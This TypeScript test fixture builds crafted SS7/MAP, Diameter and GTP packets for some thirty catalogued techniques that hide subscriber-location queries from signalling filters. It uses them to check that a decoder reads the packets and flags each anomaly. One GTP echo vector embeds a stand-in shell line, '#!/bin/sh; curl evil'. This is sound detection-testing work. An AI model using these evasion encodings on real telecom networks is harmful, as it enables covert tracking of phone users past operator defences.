/**
 * The encodings by which an operation or an identity is hidden from decoders and filters (attack-catalogue §9, EV01 to EV30), as packets. All ask, in MAP with
 * provideSubscriberInfo, where the same test subscriber is, unless said. Test numbers only; files only, nothing here sends.
 */
import { type AnomalyName, anomalies } from '../src/model/anomaly.js'
import { Decoder } from '../src/pipeline/decoder.js'
import { revealed } from '../src/report/masking.js'
import { messageEnd, recordOf } from '../src/report/record.js'
import { sctpPacket } from '../src/synth/packets.js'
import { element } from '../src/wire/ber.js'
import { oidOctets } from '../src/wire/codecs.js'
import { buildAvps, buildDiameter } from '../src/wire/diameter/index.js'
import { buildGtp } from '../src/wire/gtp/index.js'
import { gtpVectors } from '../src/wire/gtp/vectors/index.js'
import { concat, unhex } from '../src/wire/octets.js'
import { buildAddress, buildUnitdata, type SccpAddress } from '../src/wire/sccp.js'

export const IMSI = '001010123456789'
const imsi = unhex('0001012143 6587f9')

export const SCCP = 142
export const RAW_IP = 101

export interface Evasion {
  /** Number in the catalogue. */
  readonly id: string
  readonly trick: string
  readonly linkType: number
  readonly packets: readonly Uint8Array[]
  /** The operation or command that must be read, by our name; the IMSI must be read, too, unless `nobody`. */
  readonly operation: string
  readonly nobody?: true
  /** What must be flagged; nothing for tricks of transport that are legal and read whole. */
  readonly flags: readonly AnomalyName[]
}

// --- MAP in parts that can be changed ---

const CONTEXT_PSI = '0.4.0.0.1.0.28.3'
const hlr: SccpAddress = { digits: '447700900101', ssn: 7 }
const asker: SccpAddress = { digits: '12460550100', ssn: 6 }
const otid = element(0x1000008, false, [0, 0, 0x12, 0x34])
const context = (n: number): number => 0x2000000 + n
const requestedInfo = element(context(2), true, unhex('8100'))
const imsiField = element(context(0), false, imsi)
const opcode = (n: number): Uint8Array => element(2, false, [n])
const invokeId = element(2, false, [1])

function dialogue(name: string): Uint8Array {
  const aarq = element(0x1000000, true, concat([unhex('80020780'), element(context(1), true, element(6, false, oidOctets(name)))]))
  return element(0x100000b, true, element(8, true, concat([unhex('060700118605010101'), element(context(0), true, aarq)])))
}

const invoke = (...parts: readonly Uint8Array[]): Uint8Array => element(context(1), true, concat(parts))
const asks = (...fields: readonly Uint8Array[]): Uint8Array => invoke(invokeId, opcode(70), element(16, true, concat(fields)))
const usual = asks(imsiField, requestedInfo)
const components = (...all: readonly Uint8Array[]): Uint8Array => element(0x100000c, true, concat(all))
const begin = (...parts: readonly Uint8Array[]): Uint8Array => element(0x1000002, true, concat(parts))
const message = (component: Uint8Array): Uint8Array => begin(otid, dialogue(CONTEXT_PSI), components(component))

const map = (
  id: string,
  trick: string,
  tcap: Uint8Array,
  flags: readonly AnomalyName[],
  more: { operation?: string; nobody?: true; called?: SccpAddress; calling?: SccpAddress } = {},
): Evasion => ({
  id,
  trick,
  linkType: SCCP,
  packets: [buildUnitdata(more.called ?? hlr, more.calling ?? asker, tcap)],
  operation: more.operation ?? 'provideSubscriberInfo',
  ...(more.nobody === undefined ? {} : { nobody: more.nobody }),
  flags,
})

/** SCCP with addresses of our own making. */
const sccp = (id: string, trick: string, packets: readonly Uint8Array[], flags: readonly AnomalyName[]): Evasion => ({
  id,
  trick,
  linkType: SCCP,
  packets,
  operation: 'provideSubscriberInfo',
  flags,
})

function unitdata(called: ArrayLike<number>, calling: ArrayLike<number>, data: Uint8Array): Uint8Array {
  return concat([
    [9, 0, 3, 3 + called.length, 3 + called.length + calling.length, called.length],
    called,
    [calling.length],
    calling,
    [data.length],
    data,
  ])
}

function segment(data: Uint8Array, first: boolean, remaining: number): Uint8Array {
  const [a, b] = [buildAddress(hlr), buildAddress(asker)]
  const pointers = [4, 4 + a.length, 4 + a.length + b.length, 4 + a.length + b.length + data.length]
  return concat([
    [17, 1, 15, ...pointers, a.length],
    a,
    [b.length],
    b,
    [data.length],
    data,
    [16, 4, (first ? 0x80 : 0) | remaining, 1, 2, 3, 0],
  ])
}

const whole = message(usual)
const half = whole.length >> 1
const wrongHalf = whole.slice(half)
wrongHalf[3] = 0x99

// Elements with lengths and tags that `element` does not write
const long = (tag: string, lengthOctets: string, value: Uint8Array): Uint8Array => concat([unhex(tag), unhex(lengthOctets), value])
const two = (n: number): string => n.toString(16).padStart(2, '0')
const sequence = (...fields: readonly Uint8Array[]): Uint8Array => element(16, true, concat(fields))
const fieldsOf = concat([imsiField, requestedInfo])
const inner = concat([invokeId, opcode(70), sequence(imsiField, requestedInfo)])
const body = concat([otid, dialogue(CONTEXT_PSI), components(usual)])
const unknownField = long('9f1e', '14', new Uint8Array(20))

const ss7: readonly Evasion[] = [
  map(
    'EV01',
    'operation code as object identifier',
    message(invoke(invokeId, element(6, false, unhex('04000001000046')), sequence(imsiField, requestedInfo))),
    ['operationGlobal'],
  ),
  map('EV02', 'application context with one more arc', begin(otid, dialogue(`${CONTEXT_PSI}.1`), components(usual)), ['contextExtraArcs']),
  map('EV02', 'application context of a version that is not there', begin(otid, dialogue('0.4.0.0.1.0.28.9'), components(usual)), [
    'contextUnknown',
  ]),
  map('EV02', 'application context that ETSI never gave', begin(otid, dialogue('0.4.0.127.1.0.28.3'), components(usual)), [
    'contextUnknown',
  ]),
  map(
    'EV03',
    'transaction id of five octets',
    begin(element(0x1000008, false, [0, 0, 0, 0x12, 0x34]), dialogue(CONTEXT_PSI), components(usual)),
    ['transactionIdLength'],
  ),
  map('EV04', 'called address without subsystem', whole, ['ssnMissing'], { called: { digits: '447700900101' } }),
  map('EV04', 'called subsystem 0', whole, ['ssnZero'], { called: { digits: '447700900101', ssn: 0 } }),
  map('EV04', 'called subsystem that MAP does not have', whole, ['subsystemOther'], { called: { digits: '447700900101', ssn: 200 } }),
  map('EV05', 'tag of the IMSI in the high-tag form', message(asks(long('9f00', '08', imsi), requestedInfo)), ['highTagForm']),
  map('EV05', 'tag of the IMSI in the high-tag form with padding', message(asks(long('9f8000', '08', imsi), requestedInfo)), [
    'highTagForm',
    'tagPadded',
  ]),
  map('EV06', 'length of the IMSI in the long form', message(asks(long('80', '8108', imsi), requestedInfo)), ['lengthNotMinimal']),
  map('EV06', 'length of the component with zeros in front', message(long('a1', `84000000${two(inner.length)}`, inner)), [
    'lengthNotMinimal',
  ]),
  map(
    'EV07',
    'indefinite lengths',
    begin(
      otid,
      dialogue(CONTEXT_PSI),
      long(
        '6c',
        '80',
        concat([long('a1', '80', concat([invokeId, opcode(70), long('30', '80', concat([fieldsOf, [0, 0]])), [0, 0]])), [0, 0]]),
      ),
    ),
    ['lengthIndefinite'],
  ),
  map(
    'EV08',
    'operation code with a zero octet in front',
    message(invoke(invokeId, element(2, false, [0, 70]), sequence(imsiField, requestedInfo))),
    ['integerNotMinimal'],
  ),
  map('EV09', 'no dialogue portion', begin(otid, components(usual)), ['noDialoguePortion']),
  map('EV10', 'application context of short messages', begin(otid, dialogue('0.4.0.0.1.0.20.3'), components(usual)), [
    'operationOutsideContext',
  ]),
  map(
    'EV11',
    'behind a harmless component',
    begin(
      otid,
      dialogue(CONTEXT_PSI),
      components(invoke(invokeId, opcode(45), unhex('30158007914477000910328101ff8207914477000910 33')), usual),
    ),
    ['severalComponents'],
  ),
  sccp(
    'EV12',
    'two segments, cut between operation and IMSI',
    [segment(whole.slice(0, half), true, 1), segment(whole.slice(half), false, 0)],
    ['segmented'],
  ),
  sccp(
    'EV12',
    'two segments, the second one first',
    [segment(whole.slice(half), false, 0), segment(whole.slice(0, half), true, 1)],
    ['segmented'],
  ),
  sccp(
    'EV12',
    'a segment twice, with other octets',
    [
      segment(whole.slice(0, half), true, 2),
      segment(whole.slice(half, -12), false, 1),
      segment(wrongHalf.slice(0, -12), false, 1),
      segment(whole.slice(-12), false, 0),
    ],
    ['segmented', 'segmentsConflict'],
  ),
  map('EV13', 'component tag in the high-tag form', message(long('bf01', two(inner.length), inner)), ['highTagForm']),
  map('EV13', 'message tag in the high-tag form', long('7f02', two(body.length), body), ['highTagForm']),
  map('EV14', 'octets behind the message', concat([whole, new Uint8Array(3)]), ['trailingOctets']),
  map('EV15', 'unknown parameter before the IMSI', message(asks(unknownField, imsiField, requestedInfo)), ['parameterUnknown']),
  map('EV15', 'parameters in another order', message(asks(requestedInfo, imsiField)), ['parameterOrder']),
  map('EV15', 'IMSI inside an unknown parameter', message(asks(element(context(30), true, imsiField), requestedInfo)), [
    'parameterUnknown',
    'identityHidden',
  ]),
  map('EV15', 'parameters in a SET', message(invoke(invokeId, opcode(70), element(17, true, fieldsOf))), [
    'parameterType',
    'identityHidden',
  ]),
  map(
    'EV15',
    'another IMSI behind the first',
    message(asks(imsiField, requestedInfo, element(context(0), false, unhex('00010121436587f1')))),
    ['parameterOrder', 'identityTwice'],
  ),
  map('EV16', 'end-of-contents octets before the IMSI', message(asks(unhex('0000'), imsiField, requestedInfo)), [
    'endOfContentsInDefinite',
  ]),
  map(
    'EV17',
    'IMSI in two parts',
    message(
      asks(element(context(0), true, concat([element(4, false, imsi.slice(0, 4)), element(4, false, imsi.slice(4))])), requestedInfo),
    ),
    ['constructedString'],
  ),
  map(
    'EV18',
    'linked to another invocation',
    message(invoke(invokeId, element(context(0), false, [0]), opcode(70), sequence(imsiField, requestedInfo))),
    ['linkedId'],
  ),
  sccp(
    'EV19',
    'asked in a Continue, behind an empty Begin',
    [
      buildUnitdata(hlr, asker, begin(otid, dialogue(CONTEXT_PSI))),
      buildUnitdata(
        asker,
        hlr,
        element(0x1000005, true, concat([element(0x1000008, false, [0, 0, 0x56, 0x78]), element(0x1000009, false, [0, 0, 0x12, 0x34])])),
      ),
      buildUnitdata(hlr, asker, element(0x1000005, true, concat([otid, element(0x1000009, false, [0, 0, 0x56, 0x78]), components(usual)]))),
    ],
    ['operationInContinue'],
  ),
  sccp(
    'EV20',
    'in a connection request',
    [
      concat([
        [1, 0, 0, 1, 2, 2, 4 + buildAddress(hlr).length - 2, buildAddress(hlr).length],
        buildAddress(hlr),
        [4, buildAddress(asker).length],
        buildAddress(asker),
        [15, whole.length],
        whole,
        [0],
      ]),
    ],
    ['sccpTypeUnusual'],
  ),
  sccp('EV20', 'in a returned message', [buildUnitdata(asker, hlr, whole, 1)], []),
  map('EV21', 'calling title as national number', whole, ['titleForm'], { calling: { ...asker, nature: 3 } }),
  map('EV21', 'calling title of the plan of mobile subscribers (E.214)', whole, ['titleForm'], { calling: { ...asker, plan: 7 } }),
  sccp(
    'EV21',
    'called title with GTI 2, without plan and nature',
    [unitdata([0x0a, 7, 0, ...buildAddress(hlr).slice(5)], buildAddress(asker), whole)],
    ['titleForm'],
  ),
  sccp(
    'EV21',
    'title that says «even» and has an odd number of digits',
    [
      unitdata(
        [0x12, 7, 0, 0x12, 4, ...unhex('447700091001f0')].map((o, i) => (i === 11 ? 0xf1 : o)),
        buildAddress(asker),
        whole,
      ),
    ],
    ['titleForm'],
  ),
  sccp(
    'EV21',
    'title with a nibble that is no digit',
    [unitdata([0x12, 7, 0, 0x12, 4, ...unhex('44b700091001')], buildAddress(asker), whole)],
    ['digitsIllegal'],
  ),
  map(
    'EV22',
    'IMSI with a filler inside',
    message(asks(element(context(0), false, unhex('0001f12143658709')), requestedInfo)),
    ['digitsIllegal'],
    { nobody: true },
  ),
  map(
    'EV22',
    'IMSI of sixteen digits',
    message(asks(element(context(0), false, unhex('0001012143658719')), requestedInfo)),
    ['digitsTooLong'],
    { nobody: true },
  ),
  map(
    'EV30',
    'in secureTransport',
    begin(
      otid,
      dialogue('0.4.0.0.1.0.28.3'),
      components(
        invoke(
          invokeId,
          opcode(78),
          sequence(
            sequence(element(4, false, [0, 0, 0, 0]), element(context(0), true, opcode(70))),
            element(4, false, sequence(imsiField, requestedInfo)),
          ),
        ),
      ),
    ),
    ['wrapped'],
    { operation: 'secureTransportClass1' },
  ),
  map('EV30', 'TCAP inside a parameter that nobody knows', message(asks(element(context(29), false, whole), imsiField, requestedInfo)), [
    'parameterUnknown',
    'wrapped',
  ]),
]

// --- Diameter: an HSS is asked for the location of the subscriber (S6a, IDR) ---

const S6A = 16_777_251
const hostA = { ip: [10, 1, 0, 1], port: 3868, pc: 1 } as const
const hostB = { ip: [10, 2, 0, 2], port: 3868, pc: 2 } as const

const head = {
  'Session-Id': 'hss.example;1;2',
  'Auth-Session-State': 1,
  'Origin-Host': 'hss01.epc.mnc001.mcc001.3gppnetwork.org',
  'Origin-Realm': 'epc.mnc001.mcc001.3gppnetwork.org',
  'Destination-Host': 'mme01.epc.mnc001.mcc999.3gppnetwork.org',
  'Destination-Realm': 'epc.mnc001.mcc999.3gppnetwork.org',
} as const
const tail = { 'Subscription-Data': { MSISDN: '12025550100' }, 'IDR-Flags': 8 } as const

/** A request with AVPs as octets. */
function request(avps: Uint8Array): Uint8Array {
  const octets = concat([buildDiameter({ command: 319, application: S6A, request: true, hopByHop: 1, endToEnd: 1, avps: {} }), avps])
  octets.set([(octets.length >> 16) & 255, (octets.length >> 8) & 255, octets.length & 255], 1)
  return octets
}

const userName = buildAvps({ 'User-Name': IMSI })
const avp = (code: number, flags: number, value: Uint8Array, length = 8 + value.length): Uint8Array =>
  concat([[0, 0, code >> 8, code & 255, flags, 0, length >> 8, length & 255], value, new Uint8Array(-value.length & 3)])
const text = (value: string): Uint8Array => Uint8Array.from(Buffer.from(value))

const diameter = (id: string, trick: string, avps: readonly Uint8Array[], flags: readonly AnomalyName[], nobody?: true): Evasion => ({
  id,
  trick,
  linkType: RAW_IP,
  packets: [sctpPacket(hostA, hostB, 1, 46, request(concat(avps)))],
  operation: 'Insert-Subscriber-Data',
  ...(nobody === undefined ? {} : { nobody }),
  flags,
})

const front = buildAvps(head)
const back = buildAvps(tail)
const overSctp = request(concat([front, userName, back]))

const ip = (protocol: number, id: number, fragment: number, payload: Uint8Array): Uint8Array =>
  concat([
    [
      0x45,
      0,
      (20 + payload.length) >> 8,
      (20 + payload.length) & 255,
      0,
      id,
      fragment >> 8,
      fragment & 255,
      64,
      protocol,
      0,
      0,
      10,
      1,
      0,
      1,
      10,
      2,
      0,
      2,
    ],
    payload,
  ])
const tcp = (sequence: number, payload: Uint8Array): Uint8Array =>
  ip(
    6,
    1,
    0x4000,
    concat([[0x0f, 0x1c, 0x0f, 0x1c, 0, 0, sequence >> 8, sequence & 255, 0, 0, 0, 0, 0x50, 0x18, 0xff, 0xff, 0, 0, 0, 0], payload]),
  )
const transport = (trick: string, packets: readonly Uint8Array[]): Evasion => ({
  id: 'EV28',
  trick,
  linkType: RAW_IP,
  packets,
  operation: 'Insert-Subscriber-Data',
  flags: [],
})

const packet = sctpPacket(hostA, hostB, 1, 46, overSctp)
const chunkOf = (tsn: number, flags: number, value: Uint8Array): Uint8Array =>
  concat([
    [0, flags, (16 + value.length) >> 8, (16 + value.length) & 255, 0, 0, 0, tsn, 0, 1, 0, 1, 0, 0, 0, 46],
    value,
    new Uint8Array(-value.length & 3),
  ])
const watchdog = buildDiameter({
  command: 280,
  application: 0,
  request: true,
  hopByHop: 9,
  endToEnd: 9,
  avps: { 'Origin-Host': head['Origin-Host'], 'Origin-Realm': head['Origin-Realm'] },
})
const sctpHead = packet.slice(20, 32)

const packets: readonly Evasion[] = [
  diameter('EV27', 'a second User-Name', [front, userName, buildAvps({ 'User-Name': '001019999999999' }), back], ['fieldTwice']),
  diameter(
    'EV27',
    'User-Name as network access identifier',
    [front, avp(1, 0x40, text(`0${IMSI}@nai.epc.mnc001.mcc001.3gppnetwork.org`)), back],
    [],
  ),
  diameter(
    'EV27',
    'realm in capitals and with a dot at its end',
    [buildAvps({ ...head, 'Origin-Realm': 'EPC.mnc001.MCC001.3gppnetwork.org.' }), userName, back],
    ['nameMalformed'],
  ),
  diameter('EV27', 'length of an AVP beyond the message', [front, userName, avp(1405, 0xc0, text('0123'), 400)], ['lengthBeyondParent']),
  diameter(
    'EV27',
    'a 3GPP AVP without vendor',
    [front, userName, avp(1490, 0x40, Uint8Array.of(0, 0, 0, 8)), buildAvps({ 'Subscription-Data': tail['Subscription-Data'] })],
    ['flagsWrong'],
  ),
  diameter(
    'EV27',
    'unknown AVP that must be understood',
    [front, avp(60_001, 0x40, text('what is this')), userName, back],
    ['parameterUnknown'],
  ),
  diameter(
    'EV27',
    'padding that is not zero',
    [front, userName.map((o, i) => (i === userName.length - 1 ? 0x41 : o)), back],
    ['paddingNotZero'],
  ),
  transport('two messages in one SCTP packet', [ip(132, 1, 0x4000, concat([sctpHead, chunkOf(1, 3, watchdog), chunkOf(2, 3, overSctp)]))]),
  transport('a message in two SCTP chunks', [
    ip(132, 1, 0x4000, concat([sctpHead, chunkOf(1, 2, overSctp.slice(0, 120))])),
    ip(132, 2, 0x4000, concat([sctpHead, chunkOf(2, 1, overSctp.slice(120))])),
  ]),
  transport('an IP packet in fragments, the last one first', [
    ip(132, 7, (160 >> 3) & 0x1fff, packet.slice(20 + 160)),
    ip(132, 7, 0x2000, packet.slice(20, 20 + 160)),
  ]),
  transport('a message in three TCP segments, out of order', [
    tcp(100, watchdog),
    tcp(100 + watchdog.length + 200, overSctp.slice(200)),
    tcp(100 + watchdog.length, overSctp.slice(0, 90)),
    tcp(100 + watchdog.length + 90, overSctp.slice(90, 200)),
  ]),
]

// --- GTP ---

const udp = (payload: Uint8Array): Uint8Array =>
  ip(17, 1, 0x4000, concat([[0x08, 0x4b, 0x08, 0x4b, (8 + payload.length) >> 8, (8 + payload.length) & 255, 0, 0], payload]))
const gtp = (trick: string, payload: Uint8Array, operation: string, flags: readonly AnomalyName[], nobody?: true): Evasion => ({
  id: 'EV29',
  trick,
  linkType: RAW_IP,
  packets: [udp(payload)],
  operation,
  ...(nobody === undefined ? {} : { nobody }),
  flags,
})
/** The first vector of this type, as a message. */
function gtpOf(version: 1 | 2, type: number): Uint8Array {
  const vector = gtpVectors.find((v) => v.version === version && v.type === type)
  if (vector === undefined) throw new Error(`no vector of GTP ${version} ${type}`)
  return buildGtp({ ...vector, sequence: 1 })
}
const create = gtpOf(2, 32)
const echo = buildGtp({ version: 2, type: 1, sequence: 2, ies: { Recovery: 1 } })
const echoFirst = echo.slice()
echoFirst[0] = (echoFirst[0] as number) | 0x10
const hiding = concat([echo.slice(0, 2), [0, echo.length - 4 + 4 + 20], echo.slice(4), [255, 0, 20, 0], text('#!/bin/sh; curl evil')])
hiding.set([0, hiding.length - 4], 2)
const createV1 = gtpOf(1, 16)
const extended = concat([createV1.slice(0, 11), [0xc0, 1, 0x12, 0x34, 0], createV1.slice(12)])
extended[0] = (extended[0] as number) | 0x04
extended.set([(extended.length - 8) >> 8, (extended.length - 8) & 255], 2)

const gtps: readonly Evasion[] = [
  gtp('piggybacked behind another message', concat([echoFirst, create]), 'createSessionRequest', ['piggybacked']),
  gtp('behind an extension header', extended, 'createPdpContextRequest', []),
  gtp('a private extension in an echo request', hiding, 'echoRequest', [], true),
]

export const evasions: readonly Evasion[] = [...ss7, ...packets, ...gtps]

/** What our decoder reads of the packets of an evasion. */
export interface Read {
  readonly operations: readonly string[]
  readonly imsis: readonly string[]
  readonly flags: readonly AnomalyName[]
}

interface Shown {
  readonly components?: readonly { readonly operation?: string }[]
  readonly diameter?: { readonly name?: string }
  readonly gtp?: { readonly name?: string }
  readonly imsi?: string
  readonly anomalies?: readonly { readonly code: AnomalyName }[]
}

export function readEvasion(evasion: Evasion): Read {
  const records: Shown[] = []
  const decoder = new Decoder((batch) => {
    for (let row = 0; row < batch.count; ) {
      const end = messageEnd(batch, row)
      records.push(recordOf(batch, row, end, revealed, []) as Shown)
      row = end
    }
  })
  evasion.packets.forEach((octets, i) =>
    decoder.packet({
      octets,
      from: 0,
      to: octets.length,
      originalLength: octets.length,
      at: 1_767_225_600_000_000 + i * 1000,
      linkType: evasion.linkType,
      interfaceId: 0,
      file: 0,
      frame: i + 1,
    }),
  )
  decoder.flush()
  const operations = records.flatMap((r) => [...(r.components ?? []).map((c) => c.operation), r.diameter?.name, r.gtp?.name])
  const flags = new Set(records.flatMap((r) => (r.anomalies ?? []).map((a) => a.code)))
  return {
    operations: operations.filter((o) => o !== undefined),
    imsis: [...new Set(records.flatMap((r) => (r.imsi === undefined ? [] : [r.imsi])))],
    flags: [...flags],
  }
}

export const kindOf = (flag: AnomalyName): string => anomalies[flag].kind
